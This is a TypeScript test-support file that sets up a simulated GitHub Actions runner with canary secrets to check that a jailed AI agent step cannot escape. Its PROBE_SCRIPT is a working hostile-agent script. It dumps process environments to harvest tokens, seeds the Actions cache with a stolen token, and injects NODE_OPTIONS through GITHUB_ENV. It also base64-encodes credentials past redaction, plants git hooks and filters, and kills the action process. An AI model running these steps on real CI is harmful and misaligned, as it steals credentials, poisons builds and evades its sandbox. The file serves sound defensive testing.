/**
 * What an agent job on a GitHub-hosted runner holds, laid out for a probing slice: RUNNER_TEMP
 * at `<base>/work/_temp` with the file commands, `_actions` beside it, a home, a tick
 * directory, the runtime token and service URLs in the step's environment, each planted with
 * a canary. `marks` is a host directory a helper that escaped the jail would write to.
 */
import { randomBytes } from "node:crypto";
import { chmodSync, mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { TickHarness } from "../../support/tick-api-harness.ts";

export interface ProbeSite {
  runnerTemp: string;
  tickDir: string;
  home: string;
  actions: string;
  /** Written by whatever runs outside the jail; must stay empty. */
  marks: string;
  fileCommands: {
    GITHUB_ENV: string;
    GITHUB_OUTPUT: string;
    GITHUB_PATH: string;
    GITHUB_STEP_SUMMARY: string;
  };
  /** The agent step's environment beyond what playTick sets. */
  env: Record<string, string>;
  /** Values no probe may find. */
  secrets: string[];
  /** The shell harness command that runs probe.sh against this site. */
  probeCommand: string;
}

/**
 * What probes/ps.txt says: the lines naming a process outside the jail (the action, the test
 * runner), and the uids of the rest besides the jail's own root init.
 */
export function seenProcesses(ps: string): { outside: string[]; uids: Set<string> } {
  const lines = ps.trim().split("\n");
  return {
    outside: lines.filter((l) => /dist\/index\.js|vitest/.test(l)),
    uids: new Set(
      lines
        .map((l) => /uid=([0-9]+)/.exec(l)?.[1])
        .filter((u): u is string => u !== undefined && u !== "0"),
    ),
  };
}

/** Single-quoted for sh. */
export function shq(text: string): string {
  return `'${text.replaceAll("'", `'\\''`)}'`;
}

export function probeSite(h: TickHarness): ProbeSite {
  const base = mkdtempSync(join(tmpdir(), "loopx-probe-"));
  chmodSync(base, 0o755);
  const runnerTemp = join(base, "work", "_temp");
  const actions = join(base, "work", "_actions");
  const home = join(base, "home");
  const marks = join(base, "marks");
  const tickDir = join(runnerTemp, "loopx-tick");
  for (const d of [runnerTemp, actions, home, marks, tickDir]) mkdirSync(d, { recursive: true });
  // Whoever escapes (the jail's uid, the runner, root) can mark it: an empty marks/ means none did.
  chmodSync(marks, 0o1777);
  writeFileSync(join(runnerTemp, "canary-temp"), "temp");
  writeFileSync(join(actions, "canary-action"), "action");
  writeFileSync(join(home, "canary-home"), "home");
  const fileCommands = {
    GITHUB_ENV: join(runnerTemp, "env"),
    GITHUB_OUTPUT: join(runnerTemp, "output"),
    GITHUB_PATH: join(runnerTemp, "add_path"),
    GITHUB_STEP_SUMMARY: join(runnerTemp, "summary"),
  };
  for (const f of Object.values(fileCommands)) writeFileSync(f, "");
  const runtimeToken = `eyJhbGciOiJSUzI1NiJ9.eyJzY3AiOiJBY3Rpb25zLlJlc3VsdHMifQ.${randomBytes(32).toString("base64url")}`;
  const env = {
    HOME: home,
    ACTIONS_RUNTIME_TOKEN: runtimeToken,
    ACTIONS_RESULTS_URL: `${h.sandbox.url}/_results/`,
    ACTIONS_CACHE_URL: `${h.sandbox.url}/_cache/`,
    GITHUB_PATH: fileCommands.GITHUB_PATH,
  };
  const args = [
    runnerTemp,
    home,
    actions,
    fileCommands.GITHUB_ENV,
    fileCommands.GITHUB_OUTPUT,
    fileCommands.GITHUB_PATH,
    fileCommands.GITHUB_STEP_SUMMARY,
    marks,
  ].map(shq);
  return {
    runnerTemp,
    tickDir,
    home,
    actions,
    marks,
    fileCommands,
    env,
    secrets: [runtimeToken],
    probeCommand: `sh probe.sh ${args.join(" ")}`,
  };
}

/**
 * The probes; each writes what it saw under probes/ in the work tree. Last, once the result is
 * written, it plants hooks for whatever runs git after it, and tries to kill the action.
 */
export const PROBE_SCRIPT = `#!/bin/sh
# A hostile agent's reconnaissance: every finding lands in probes/ for the test to read.
runner_temp=$1 home=$2 actions=$3 gh_env=$4 gh_output=$5 gh_path=$6 gh_summary=$7 marks=$8
mkdir -p probes
for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f" 2>/dev/null; echo; done > probes/environ.txt
tr '\\0' '\\n' < "/proc/$PPID/environ" > probes/parent-environ.txt 2>/dev/null
for d in /proc/[0-9]*; do
  printf '%s uid=%s %s\\n' "\${d#/proc/}" "$(awk '/^Uid:/{print $2}' "$d/status" 2>/dev/null)" "$(tr '\\0' ' ' < "$d/cmdline" 2>/dev/null)"
done > probes/ps.txt
sudo -n true >/dev/null 2>&1; echo "$?" > probes/sudo.txt
ls -A "$runner_temp" > probes/runner-temp.txt 2>&1
ls -A "$runner_temp/loopx-tick" > probes/tick-dir.txt 2>&1
ls -A "$home" > probes/home.txt 2>&1
ls -A "$actions" > probes/actions.txt 2>&1
# GITHUB_ENV reaches every later step: NODE_OPTIONS would run this in the next node process.
printf 'require("fs").appendFileSync(%s, "uid " + process.getuid() + " ");\\n' "'$marks/node-options'" > .probe-evil.cjs
{ echo "EVIL=1"; echo "NODE_OPTIONS=--require=$PWD/.probe-evil.cjs"; } >> "$gh_env" 2>/dev/null
echo "outcome<<EVIL" >> "$gh_output" 2>/dev/null
echo "/EVIL" >> "$gh_path" 2>/dev/null
echo "# EVIL" >> "$gh_summary" 2>/dev/null
token=$(sed -n 's/^ACTIONS_RUNTIME_TOKEN=//p' probes/environ.txt probes/parent-environ.txt | head -n 1)
echo "\${token:+found}\${token:-none}" | sed 's/^found.*/found/' > probes/runtime-token.txt
# With a runtime token, seed a cache entry a default-branch job would restore.
cache_url=$(sed -n 's/^ACTIONS_CACHE_URL=//p' probes/environ.txt probes/parent-environ.txt | head -n 1)
if [ -n "$token" ] && [ -n "$cache_url" ]; then
  body='{"key":"deps-probe","version":"v1"}'
  curl -s -o /dev/null -w '%{http_code}' -X POST -H "authorization: Bearer $token" -H 'content-type: application/json' -d "$body" "\${cache_url}_apis/artifactcache/caches" > probes/cache-save.txt 2>&1
else
  echo "no token" > probes/cache-save.txt
fi
# Every credential it found, base64-encoded past a plain-text redaction, into the handoff.
found=$(grep -h -E '^(ACTIONS_RUNTIME_TOKEN|INPUT_TOKEN|GITHUB_TOKEN)=' probes/environ.txt probes/parent-environ.txt | base64 -w0)
touch probes/ok
printf '{"outcome":"progress","handoff":{"done":"probed the runner %s","next":"-"}}' "$found" > "$LOOPX_RESULT"
# Hooks for whoever runs git here next: each marks the host (out of the jail's sight).
mkdir -p .probe-hooks
for name in clean fsmonitor hooks-path post-commit; do
  pass="exit 0"; [ "$name" = clean ] && pass=cat
  printf '#!/bin/sh\necho "$(id -u)" >> %s/%s\nenv >> %s/%s.env\n%s\n' "$marks" "$name" "$marks" "$name" "$pass" > ".probe-$name"
  chmod +x ".probe-$name"
done
cp .probe-hooks-path .probe-hooks/post-commit
cp .probe-post-commit .git/hooks/post-commit
git config filter.probe.clean "$PWD/.probe-clean"
git config core.fsmonitor "$PWD/.probe-fsmonitor"
git config core.hooksPath "$PWD/.probe-hooks"
echo '* filter=probe' > .gitattributes
echo planted > probes/hooks.txt
# Signal the action (node running dist/index.js), wherever it can be seen.
for d in /proc/[0-9]*; do
  [ "\${d#/proc/}" = "$$" ] && continue
  case "$(tr '\\0' ' ' < "$d/cmdline" 2>/dev/null)" in *dist/index.js*) kill -KILL "\${d#/proc/}" ;; esac
done
exit 0
`;
